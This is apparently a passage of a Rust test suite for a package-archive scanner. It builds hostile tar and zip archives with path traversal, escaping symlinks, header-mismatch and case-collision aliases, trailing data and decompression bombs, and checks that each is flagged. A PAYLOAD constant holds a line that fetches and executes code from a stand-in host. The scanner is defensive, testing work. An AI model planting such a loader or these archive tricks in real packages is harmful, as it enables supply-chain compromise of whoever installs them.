        assert!(w.complete && w.anomalies.is_empty(), "{:?}", w.anomalies);
        assert_eq!(seen, vec!["a-1.0/setup.py"]);
    }

    #[test]
    fn hostile_zip_members() {
        let (w, _) = run(&zip_bytes(&[("../evil.py", b"x"), ("/abs.py", b"y")]), "x.zip");
        assert_eq!(ids(&w), vec!["archive-unsafe-path", "archive-unsafe-path"]);
    }

    #[test]
    fn zip_header_mismatch_is_found() {
        let mut data = zip_bytes(&[("pkg/good.py", b"x")]);
        // Rename the member in its local header only.
        let pos = data.windows(11).position(|w| w == b"pkg/good.py").unwrap();
        data[pos + 4..pos + 8].copy_from_slice(b"evil");
        let (w, _) = run(&data, "x.whl");
        assert!(ids(&w).contains(&"archive-zip-header-mismatch"), "{:?}", w.anomalies);
    }

    #[test]
    fn duplicate_zip_names_are_found() {
        let mut data = zip_bytes(&[("pkg/a.py", b"first"), ("pkg/b.py", b"second")]);
        // Rename the second member to the first one's name, in both headers.
        for pos in data.windows(8).enumerate().filter(|(_, w)| *w == b"pkg/b.py").map(|(i, _)| i).collect::<Vec<_>>() {
            data[pos + 4] = b'a';
        }
        let (w, _) = run(&data, "x.whl");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
    }

    #[test]
    fn tar_links_and_devices() {
        let data = tgz_bytes(|t| {
            file(t, "p-1.0/setup.py", b"");
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            t.append_link(&mut h, "p-1.0/link", "../../etc/passwd").unwrap();
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Char);
            h.set_size(0);
            t.append_data(&mut h, "p-1.0/dev", &[][..]).unwrap();
            file(t, "p-1.0/setup.py", b"again");
        });
        let (w, _) = run(&data, "p-1.0.tar.gz");
        assert_eq!(ids(&w), vec!["archive-link-outside", "archive-special-file", "archive-duplicate-member"]);
    }

    #[test]
    fn content_wins_over_extension_and_nesting_is_walked() {
        let inner = zip_bytes(&[("payload.py", b"x")]);
        let outer = zip_bytes(&[("p/inner.zip", &inner)]);
        let (w, seen) = run(&outer, "p-1.0.tar.gz");
        assert_eq!(w.format, Format::Zip);
        assert_eq!(ids(&w), vec!["archive-format-mismatch"]);
        assert_eq!(seen, vec!["p/inner.zip", "p/inner.zip!payload.py"]);
    }

    #[test]
    fn nesting_is_bounded() {
        let mut data = zip_bytes(&[("x.py", b"x")]);
        for i in 0..4 {
            data = zip_bytes(&[(&format!("l{i}.zip"), &data)]);
        }
        let (w, _) = run(&data, "n.zip");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-nested-too-deep"));
        assert!(!w.failed_outside_nested);
        assert_eq!(w.unread_nested, vec!["l3.zip"]);
    }

    #[test]
    fn unread_nested_archives_are_told_apart() {
        // A corrupt zip (its central directory cut off) and an encrypted one, nested.
        let corrupt = zip_bytes(&[("a.txt", &[7u8; 3000][..])]);
        let corrupt = &corrupt[..corrupt.len() - 30];
        let mut enc = zip_bytes(&[("b.txt", b"secret")]);
        // Set the "encrypted" bit in the local and central headers.
        for sig in [&b"PK\x03\x04"[..], &b"PK\x01\x02"[..]] {
            let pos = enc.windows(4).position(|w| w == sig).unwrap();
            let flag = pos + if sig[2] == 3 { 6 } else { 8 };
            enc[flag] |= 1;
        }
        let data = tgz_bytes(|t| {
            file(t, "p-1.0/setup.py", b"");
            file(t, "p-1.0/tests/data/bad.zip", corrupt);
            file(t, "p-1.0/tests/data/enc.zip", &enc);
        });
        let (w, _) = run(&data, "p-1.0.tar.gz");
        assert!(!w.complete, "{:?}", w.anomalies);
        assert!(!w.failed_outside_nested, "{:?}", w.anomalies);
        assert_eq!(w.unread_nested, vec!["p-1.0/tests/data/bad.zip", "p-1.0/tests/data/enc.zip"]);
        // The archive's own member unreadable is a failure of the walk itself.
        let data = zip_bytes(&[("pkg/x.py", b"x")]);
        let mut enc_top = data.clone();
        for sig in [&b"PK\x03\x04"[..], &b"PK\x01\x02"[..]] {
            let pos = enc_top.windows(4).position(|w| w == sig).unwrap();
            enc_top[pos + if sig[2] == 3 { 6 } else { 8 }] |= 1;
        }
        let (w, _) = run(&enc_top, "x.whl");
        assert!(!w.complete && w.failed_outside_nested, "{:?}", w.anomalies);
        assert!(w.unread_nested.is_empty());
    }

    #[test]
    fn truncated_or_garbage_is_incomplete() {
        let data = tgz_bytes(|t| file(t, "p-1.0/big", &vec![1u8; 200_000]));
        let (w, _) = run(&data[..data.len() / 2], "p-1.0.tar.gz");
        assert!(!w.complete, "{:?}", w.anomalies);
        let (w, _) = run(b"just some text", "p-1.0.tar.gz");
        assert!(!w.complete);
        assert_eq!(w.format, Format::Unknown);
    }

    #[test]
    fn bombs_are_flagged() {
        let data = zip_bytes(&[("zeros", &vec![0u8; 40 << 20])]);
        let (w, _) = run(&data, "b.zip");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-bomb"), "{:?}", w.anomalies);
    }

    #[test]
    fn tar_bombs_stop_at_the_ratio() {
        let data = tgz_bytes(|t| file(t, "p-1.0/zeros", &vec![0u8; 40 << 20]));
        let limits = WalkLimits { ratio_floor: 1 << 20, ..WalkLimits::default() };
        let w = walk_bytes(&data, "p-1.0.tar.gz", &limits, &mut |_| {});
        assert!(!w.complete);
        assert!(w.anomalies.iter().any(|a| matches!(a, Anomaly::Bomb { .. })), "{:?}", w.anomalies);
        // It stopped near the cap rather than reading all 40 MiB.
        assert!(
            w.uncompressed <= (data.len() as u64 * limits.max_ratio).max(limits.ratio_floor) + limits.max_member_bytes,
            "{}",
            w.uncompressed
        );
    }

    fn entry(t: &mut tar::Builder<flate2::write::GzEncoder<Vec<u8>>>, kind: tar::EntryType, name: &str, target: &str) {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(kind);
        h.set_size(0);
        h.set_mode(0o777);
        t.append_link(&mut h, name, target).unwrap();
    }

    fn visited(data: &[u8], name: &str) -> (Walk, Vec<(String, Vec<u8>)>) {
        let mut seen = Vec::new();
        let w = walk_bytes(data, name, &WalkLimits::default(), &mut |m| seen.push((m.path.to_string(), m.data.to_vec())));
        (w, seen)
    }

    const PAYLOAD: &[u8] = b"exec(urllib.request.urlopen('http://evil.invalid/stage2.py').read())\n";

    #[test]
    fn a_symlinked_setup_py_is_visited_as_setup_py() {
        for kind in [tar::EntryType::Symlink, tar::EntryType::Link] {
            let target = if kind == tar::EntryType::Symlink { "docs/notes.txt" } else { "p-1.0/docs/notes.txt" };
            let data = tgz_bytes(|t| {
                file(t, "p-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n");
                file(t, "p-1.0/docs/notes.txt", PAYLOAD);
                entry(t, kind, "p-1.0/setup.py", target);
            });
            let (w, seen) = visited(&data, "p-1.0.tar.gz");
            assert!(w.complete, "{:?}", w.anomalies);
            assert!(seen.contains(&("p-1.0/setup.py".to_string(), PAYLOAD.to_vec())), "{kind:?}: {:?}", seen);
        }
    }

    #[test]
    fn a_link_replacing_a_regular_setup_py_makes_the_walk_incomplete() {
        let data = tgz_bytes(|t| {
            file(t, "p-1.0/docs/notes.txt", PAYLOAD);
            file(t, "p-1.0/setup.py", b"from setuptools import setup\nsetup()\n");
            entry(t, tar::EntryType::Symlink, "p-1.0/setup.py", "docs/notes.txt");
        });
        let (w, _) = visited(&data, "p-1.0.tar.gz");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
    }

    #[test]
    fn link_chains_out_of_the_tree_make_the_walk_incomplete() {
        let data = tgz_bytes(|t| {
            entry(t, tar::EntryType::Symlink, "p-1.0/up", "..");
            entry(t, tar::EntryType::Symlink, "p-1.0/up2", "up/..");
            entry(t, tar::EntryType::Symlink, "p-1.0/up3", "up2/..");
            file(t, "p-1.0/up3/escaped.txt", b"x");
        });
        let (w, _) = visited(&data, "p-1.0.tar.gz");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-link-outside"), "{:?}", w.anomalies);
        assert!(ids(&w).contains(&"archive-through-link"), "{:?}", w.anomalies);
    }

    /// A tar whose end-of-archive blocks are cut off, as one gzip member.
    fn unterminated_tgz(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut t = tar::Builder::new(Vec::new());
        for (n, d) in members {
            let mut h = tar::Header::new_gnu();
            h.set_size(d.len() as u64);
            h.set_mode(0o644);
            t.append_data(&mut h, n, *d).unwrap();
        }
        let mut raw = t.into_inner().unwrap();
        raw.truncate(raw.len() - 1024);
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(&raw).unwrap();
        gz.finish().unwrap()
    }

    #[test]
    fn a_second_gzip_member_is_read() {
        let mut data = unterminated_tgz(&[("p-1.0/PKG-INFO", b"Name: p"), ("p-1.0/setup.py", b"harmless")]);
        data.extend(tgz_bytes(|t| file(t, "p-1.0/evil.py", PAYLOAD)));
        let (w, seen) = visited(&data, "p-1.0.tar.gz");
        assert!(w.complete, "{:?}", w.anomalies);
        assert!(seen.contains(&("p-1.0/evil.py".to_string(), PAYLOAD.to_vec())), "{:?}", seen);
        // And a setup.py in the second member replaces the first: a duplicate.
        let mut data = unterminated_tgz(&[("p-1.0/setup.py", b"harmless")]);
        data.extend(tgz_bytes(|t| file(t, "p-1.0/setup.py", PAYLOAD)));
        let (w, seen) = visited(&data, "p-1.0.tar.gz");
        assert!(!w.complete && ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
        assert!(seen.contains(&("p-1.0/setup.py".to_string(), PAYLOAD.to_vec())));
    }

    #[test]
    fn data_after_the_tar_end_is_an_anomaly_but_zero_padding_is_not() {
        let one = tgz_bytes(|t| file(t, "p-1.0/a.py", b"x"));
        let (w, _) = visited(&one, "p-1.0.tar.gz");
        assert!(w.complete, "{:?}", w.anomalies);
        // A whole second archive after the end marker: extractors stop at the marker.
        let mut two = one.clone();
        two.extend(tgz_bytes(|t| file(t, "p-1.0/evil.py", PAYLOAD)));
        let (w, _) = visited(&two, "p-1.0.tar.gz");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-trailing-data"), "{:?}", w.anomalies);
        // GNU tar pads to 10 KiB with zeros.
        let mut padded = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(1);
        padded.append_data(&mut h, "p-1.0/a.py", &b"x"[..]).unwrap();
        let mut raw = padded.into_inner().unwrap();
        raw.resize(10240, 0);
        let (w, _) = visited(&raw, "p-1.0.tar");
        assert!(w.complete, "{:?}", w.anomalies);
    }

    #[test]
    fn names_that_differ_only_in_case_make_the_walk_incomplete() {
        let data = tgz_bytes(|t| {
            file(t, "p-1.0/setup.py", b"harmless");
            file(t, "p-1.0/SETUP.PY", PAYLOAD);
        });
        let (w, _) = visited(&data, "p-1.0.tar.gz");
        assert!(!w.complete && ids(&w).contains(&"archive-case-collision"), "{:?}", w.anomalies);
    }

    #[test]
    fn dot_segments_do_not_hide_an_entry_point() {
        let data = tgz_bytes(|t| file(t, "p-1.0/./setup.py", PAYLOAD));
        let (_, seen) = visited(&data, "p-1.0.tar.gz");
        assert_eq!(seen[0].0, "p-1.0/setup.py");
    }

    #[test]
    fn a_zip_member_named_otherwise_in_its_local_header_is_visited_under_both_names() {
        let mut data = zip_bytes(&[("pkg/helper_0001.py", PAYLOAD)]);
        // Rename the member in its local header only (the first occurrence).
        let pos = data.windows(18).position(|w| w == b"pkg/helper_0001.py").unwrap();
        data[pos..pos + 18].copy_from_slice(b"pkg/zzzzzzzzzz.pth");
        let (w, seen) = visited(&data, "x-1.0-py3-none-any.whl");
        assert!(!w.complete);
        assert!(ids(&w).contains(&"archive-zip-header-mismatch"), "{:?}", w.anomalies);
        let paths: Vec<&str> = seen.iter().map(|(p, _)| p.as_str()).collect();
        assert_eq!(paths, vec!["pkg/helper_0001.py", "pkg/zzzzzzzzzz.pth"]);
    }

    #[test]
    fn a_zip_unicode_path_field_is_an_alias() {
        // Central and local name `pkg/__init__.py`, and an Info-ZIP Unicode Path field (which the
        // zip reader applies, and Python's zipfile ignores) saying `pkg/__INIT__.PY`.
        let name = b"pkg/__init__.py";
        let mut field = vec![1u8];
        field.extend(crc32fast::hash(name).to_le_bytes());
        field.extend_from_slice(b"pkg/__INIT__.PY");
        let mut buf = Cursor::new(Vec::new());
        {
            let mut z = zip::ZipWriter::new(&mut buf);
            let mut o = zip::write::FullFileOptions::default().compression_method(zip::CompressionMethod::Stored);
            o.add_extra_field(0x7075, &field, false).unwrap();
            z.start_file("pkg/__init__.py", o).unwrap();
            z.write_all(PAYLOAD).unwrap();
            z.finish().unwrap();
        }
        let (w, seen) = visited(&buf.into_inner(), "x-1.0-py3-none-any.whl");
        let paths: Vec<&str> = seen.iter().map(|(p, _)| p.as_str()).collect();
        // The zip reader applies the field: both names are judged and the walk is not complete.
        assert_eq!(paths, vec!["pkg/__init__.py", "pkg/__INIT__.PY"], "{:?}", w.anomalies);
        assert!(!w.complete && ids(&w).contains(&"archive-zip-header-mismatch"), "{:?}", w.anomalies);
    }

    #[test]
    fn a_file_stated_twice_is_one_file_only_with_the_same_bytes() {
        let same = tgz_bytes(|t| {
            file(t, "p-1.0/LICENSE", b"MIT");
            file(t, "p-1.0/LICENSE", b"MIT");
        });
        let (w, _) = visited(&same, "p-1.0.tar.gz");
        assert!(w.complete, "{:?}", w.anomalies);
        let other = tgz_bytes(|t| {
            file(t, "p-1.0/LICENSE", b"MIT");
            file(t, "p-1.0/LICENSE", b"GPL");
        });
        let (w, seen) = visited(&other, "p-1.0.tar.gz");
        assert!(!w.complete && ids(&w) == vec!["archive-duplicate-member"], "{:?}", w.anomalies);
        // Both copies were judged.
        assert_eq!(seen.len(), 2);
    }

    #[test]
    fn ambiguities_inside_a_nested_fixture_archive_are_recorded_not_failed() {
        // Archive libraries test themselves with hostile archives: installers never extract them.
        let inner = tgz_bytes(|t| {
            entry(t, tar::EntryType::Symlink, "x/up", "../../..");
            file(t, "x/a", b"1");
            file(t, "x/a", b"2");
        });
        let outer = tgz_bytes(|t| file(t, "p-1.0/tests/bad.tar.gz", &inner));
        let (w, _) = visited(&outer, "p-1.0.tar.gz");
        assert!(w.complete, "{:?}", w.anomalies);
        assert!(ids(&w).contains(&"archive-link-outside") && ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
    }

    #[test]
    fn oversized_members_are_truncated_but_counted() {
        let limits = WalkLimits { max_member_bytes: 10, ..WalkLimits::default() };
        let data = zip_bytes(&[("big.txt", &[b'a'; 100])]);
        let mut got = Vec::new();
        let w = walk_bytes(&data, "x.zip", &limits, &mut |m| got.push((m.data.len(), m.size, m.truncated)));
        assert!(w.complete);
        assert_eq!(got, vec![(10, 100, true)]);
    }
}
